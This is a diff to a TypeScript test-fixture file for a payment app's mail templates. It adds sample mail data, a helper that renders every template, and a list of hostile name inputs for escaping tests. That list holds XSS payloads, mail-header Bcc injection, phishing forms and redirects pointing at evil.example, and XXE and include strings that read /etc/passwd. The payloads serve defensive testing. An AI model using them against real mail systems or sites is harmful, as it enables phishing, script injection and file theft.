@@ -1,9 +1,17 @@
 import { randomUUID } from 'node:crypto';
 import type { InvitationMailData } from '../src/mail/invitation-mail.ts';
 import type { MailComposer } from '../src/mail/mail-composer.ts';
-import type { MailTemplate } from '../src/mail/mail-renderer.ts';
+import {
+  renderMail,
+  type MailTemplate,
+  type RenderedMail,
+  type RenderedTemplate,
+} from '../src/mail/mail-renderer.ts';
+import type { PasswordResetMailData } from '../src/mail/password-reset-mail.ts';
 import type { RegistrationCodeMailData } from '../src/mail/registration-code-mail.ts';
+import type { WelcomeMailData } from '../src/mail/welcome-mail.ts';
 import type { OutgoingMail } from '../src/mail/mail-transport.ts';
+import { renderReceipt } from './mail-receipt.ts';
 
 /** The data of an invitation mail, complete, with what a test changes. */
 export function sampleInvitationData(changes: Partial<InvitationMailData> = {}): InvitationMailData {
@@ -14,7 +22,7 @@ export function sampleInvitationData(changes: Partial<InvitationMailData> = {}):
     invitedByName: 'Dana Ortiz',
     link: 'https://pay.ridgeline.example/i/8Jk3nQeLw0m2X7rT5yUa1Zc4Vb6Nd9Fg',
     checkPhrase: 'copper river seven',
-    validUntil: 'December 6, 2026',
+    validUntil: 'December 6, 2026 at 9:30 PM MST',
     message: 'This replaces the paper statements.\nCall me if anything looks off.',
     postalAddress: '1200 Mill Road\nAlbuquerque, NM 87102',
     locale: 'en',
@@ -32,6 +40,79 @@ export function sampleCodeData(changes: Partial<RegistrationCodeMailData> = {}):
     validMinutes: 15,
     ...changes,
   };
+}
+
+/** The data of a welcome, complete, with what a test changes. */
+export function sampleWelcomeData(changes: Partial<WelcomeMailData> = {}): WelcomeMailData {
+  const { dealerName, customerNames, contactName, postalAddress, locale } = sampleInvitationData();
+  return {
+    ...{ dealerName, customerNames, contactName, postalAddress, locale },
+    email: 'maria@harrowhomes.example',
+    signInLink: 'https://pay.ridgeline.example/sign-in',
+    ...changes,
+  };
+}
+
+/** The data of a mail with a link to a new password, complete, with what a test changes. */
+export function sampleResetData(changes: Partial<PasswordResetMailData> = {}): PasswordResetMailData {
+  const { dealerName, contactName, postalAddress, locale } = sampleInvitationData();
+  return {
+    ...{ dealerName, contactName, postalAddress, locale },
+    email: 'maria@harrowhomes.example',
+    resetLink: 'https://pay.ridgeline.example/reset/8Jk3nQeLw0m2X7rT5yUa1Zc4Vb6Nd9Fg',
+    validMinutes: 60,
+    ...changes,
+  };
+}
+
+/** The sample of each template, with what a test changes of what they have in common. */
+export const SAMPLES: Record<
+  RenderedTemplate,
+  (
+    changes?: Partial<
+      Pick<InvitationMailData, 'dealerName' | 'contactName' | 'postalAddress' | 'locale' | 'customerNames'>
+    >,
+  ) => Record<string, unknown>
+> = {
+  invitation: (changes) => ({ ...sampleInvitationData(changes) }),
+  reminder: (changes) => ({
+    ...sampleInvitationData({ mailedOn: 'November 22, 2026', follows: 'invitation', ...changes }),
+  }),
+  new_link: (changes) => ({ ...sampleInvitationData(changes) }),
+  welcome: (changes) => ({ ...sampleWelcomeData(changes) }),
+  password_reset: (changes) => ({ ...sampleResetData(changes) }),
+  registration_code: (changes) => ({ ...sampleCodeData(changes) }),
+};
+
+export const LOCALES = ['en', 'es', 'fr'] as const;
+/** One that can be read as it is, and one that cannot. */
+export const BRAND_COLORS = ['#1f5f3f', '#ffd400'] as const;
+
+/** Names as long as they get, of several accounts: whose mail is the largest. */
+export const WORST_NAMES = {
+  dealerName: 'Ridgeline'.repeat(12),
+  customerNames: Array.from({ length: 100 }, (_, n) => `${n}${'Härrow & "Söns" '.repeat(9)}`),
+  contactName: 'Mariæ'.repeat(25),
+  postalAddress: '1200 Mill Road\n'.repeat(40),
+} as const;
+
+/** Every mail that there is, and one about money, in every language and two colors, to whom `changes` say. */
+export async function everyMail(
+  changes: Parameters<(typeof SAMPLES)['invitation']>[0] = {},
+): Promise<{ name: string; template: string; mail: RenderedMail }[]> {
+  const mails = [];
+  for (const locale of LOCALES) {
+    for (const brandColor of BRAND_COLORS) {
+      const about = `${locale}, ${brandColor}`;
+      for (const [template, sample] of Object.entries(SAMPLES)) {
+        const mail = renderMail(template as RenderedTemplate, sample({ ...changes, locale }), { brandColor });
+        mails.push({ name: `${template}, ${about}`, template, mail });
+      }
+      const receipt = await renderReceipt({ ...sampleInvitationData(changes), locale }, brandColor);
+      mails.push({ name: `receipt, ${about}`, template: 'receipt', mail: receipt });
+    }
+  }
+  return mails;
 }
 
 /** One attempt of a mail, with what a test changes. */
@@ -58,7 +139,13 @@ export function sampleOutgoingMail(changes: Partial<OutgoingMail> = {}): Outgoin
 
 /** One composer for mails of every template. */
 export function everyTemplate(composer: MailComposer): Record<MailTemplate, MailComposer> {
-  return { invitation: composer, reminder: composer, registration_code: composer };
+  return {
+    invitation: composer,
+    reminder: composer,
+    new_link: composer,
+    welcome: composer,
+    registration_code: composer,
+  };
 }
 
 /** What people and ERPs should not write into a name, and some do. */
@@ -81,4 +168,43 @@ export const INJECTIONS = [
   'Maria\r\nBcc: everyone@evil.example\r\n\r\n<b>body</b>',
   '\u202Etxt.exe\u202C \u2066Maria\u2069\u0000\u0008',
   '`=${7*7}`',
+  '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
+  '<svg><script>alert&#40;1&#41;</script></svg>',
+  '<math><mtext></table><img src=x onerror=alert(1)></math>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<form action="https://evil.example"><input name=password>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '</style><style>a{display:none}',
+  '</body></html><html><body><p>Another mail',
+  '</p></div></main><h1>Invoice</h1>',
+  '<p style="background:url(https://evil.example/x.png)">',
+  '" href="https://evil.example" x="',
+  "' onmouseover='alert(1)",
+  '` onmouseover=`alert(1)',
+  '<a href=javascript:alert(1)>Pay</a>',
+  'https://evil.example/pay',
+  '[Pay here](declineLink) **now**',
+  '[[part.button link=link words=button]]',
+  '{{> body}} {{lookup this "link"}} {{log link}}',
+  '{{/if}}{{/each}}{{else}}',
+  '\\{{link}} \\\\{{link}}',
+  '{{color.brand}};}*{display:none}',
+  '#1a2b4d #1a2b5d',
+  '<mj-raw><b>x</b></mj-raw><mj-include path="/etc/passwd"/>',
+  '<!--[if mso]><p>Outlook</p><![endif]-->',
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+  '<plaintext>',
+  '<textarea><xmp><noscript>',
+  '</title><title>',
+  '=?utf-8?Q?=0D=0ABcc:_everyone@evil.example?=',
+  'Maria\nContent-Type: text/html\n\n<b>x</b>',
+  'Maria\u2028Bcc: everyone@evil.example',
+  '"Maria" <ceo@bank.example>, everyone@evil.example',
+  'Maria\0<script>',
+  '＜script＞alert(1)＜/script＞',
+  '\ud83d<script>\udc00',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '\u001b]8;;https://evil.example\u0007Pay\u001b]8;;\u0007',
 ];
